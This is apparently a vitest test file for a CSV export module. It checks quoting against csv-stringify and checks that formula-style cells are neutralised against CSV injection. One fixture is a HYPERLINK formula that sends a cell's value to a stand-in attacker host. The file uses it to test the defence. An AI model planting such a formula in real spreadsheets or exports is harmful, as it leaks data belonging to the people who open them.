import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { csvCell, csvField, writeCsv } from "./write-csv";
import { neutralizeCsvCell } from "./neutralize-csv-cell";
import type { ExportRow } from "./export-source";

/** Cells that exercise every rule of csv-stringify's quoting: quotes, commas, line ends, formulas, Unicode, empties. */
const TRICKY = [
  "",
  "plain",
  "LT-15151",
  'say "hi"',
  '"',
  '""',
  "a,b",
  ",",
  "line\nbreak",
  "\n",
  "carriage\rreturn",
  "crlf\r\n",
  "tab\there",
  "'=1+1",
  '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
  "ünïcødé, ✓",
  'emoji 🔒 "q"',
  " leading and trailing ",
  "semi;colon",
  "back\\slash",
];

/** csv-stringify's defaults, and a carriage return anywhere quoted as PostgreSQL's COPY quotes it (decision 049). */
const AS_WRITTEN = { quoted_match: "\r" };

describe("csvField", () => {
  it("writes every cell as csv-stringify does with its defaults and a CR quoted", () => {
    expect(csvField("lone\rreturn")).toBe('"lone\rreturn"');
    for (const cell of TRICKY) expect(csvField(cell), JSON.stringify(cell)).toBe(stringify([[cell]], AS_WRITTEN).slice(0, -1));
  });

  it("random cells from the characters that matter agree with csv-stringify too", () => {
    const alphabet = ['"', ",", "\n", "\r", "a", " ", "=", "é"];
    let seed = 17;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let n = 0; n < 2_000; n++) {
      const cell = Array.from({ length: next() % 8 }, () => alphabet[next() % alphabet.length]).join("");
      expect(csvField(cell), JSON.stringify(cell)).toBe(stringify([[cell]], AS_WRITTEN).slice(0, -1));
    }
  });
});

describe("csvCell", () => {
  it("neutralises a cell starting with = + - @ tab or CR, and only those (OWASP CSV injection)", () => {
    for (const cell of ["=1+1", "+x", "-1", "@SUM(A1)", "\tx", "\rx"]) expect(neutralizeCsvCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    for (const cell of ["", "PC-0142", " =1", "'=1", "\nx", "x=1", "#x", "%x"]) expect(neutralizeCsvCell(cell), JSON.stringify(cell)).toBe(cell);
  });

  it("is csvField of the neutralised cell, for every tricky cell and random ones", () => {
    for (const cell of [...TRICKY, "-1", "+x", "@a,b", '\t"q"', "\r\n"]) expect(csvCell(cell), JSON.stringify(cell)).toBe(csvField(neutralizeCsvCell(cell)));
    const alphabet = ['"', ",", "\n", "\r", "\t", "a", "=", "+", "-", "@", "é"];
    let seed = 29;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
    for (let n = 0; n < 2_000; n++) {
      const cell = Array.from({ length: next() % 6 }, () => alphabet[next() % alphabet.length]).join("");
      expect(csvCell(cell), JSON.stringify(cell)).toBe(csvField(neutralizeCsvCell(cell)));
    }
  });
});

describe("writeCsv", () => {
  it("is byte for byte csv-stringify's output of the same rows (BOM, header, neutralised and flattened cells)", async () => {
    const columns = [{ key: "name" }, { key: "n" }, { key: "flag" }, { key: "list", flatten: (v: unknown) => (Array.isArray(v) ? v.join(", ") : String(v)) }];
    const rows: ExportRow[] = TRICKY.map((cell, i) => [cell, i, i % 2 === 0, i % 3 ? ["a", "b,c"] : []]);
    rows.push([null, null, null, null]);
    async function* one() {
      yield rows;
    }
    const chunks: Uint8Array[] = [];
    for await (const chunk of writeCsv(columns, one())) chunks.push(chunk);
    const expected =
      "\uFEFF" +
      stringify([columns.map((c) => c.key)], AS_WRITTEN) +
      stringify(
        rows.map((r) => [
          r[0] === null ? "" : (r[0] as string).replace(/^([=+\-@\t\r])/, "'$1"),
          r[1] === null ? "" : String(r[1]),
          r[2] === null ? "" : String(r[2]),
          r[3] === null ? "" : (r[3] as string[]).join(", "),
        ]),
        AS_WRITTEN,
      );
    expect(Buffer.concat(chunks).toString("utf8")).toBe(expected);
  });
});
